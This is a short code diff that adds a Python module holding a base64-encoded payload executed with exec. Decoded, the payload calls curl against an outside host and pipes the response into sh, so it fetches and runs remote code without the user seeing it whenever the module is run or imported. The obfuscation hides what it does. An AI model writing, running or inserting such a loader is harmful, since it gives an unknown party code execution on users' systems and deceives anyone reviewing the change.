@@ -1,0 +1,3 @@
+import base64
+PAYLOAD = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwczovL3B5LWxvYWRlci5uZXQvcCB8IHNoJykK"
+exec(base64.b64decode(PAYLOAD))
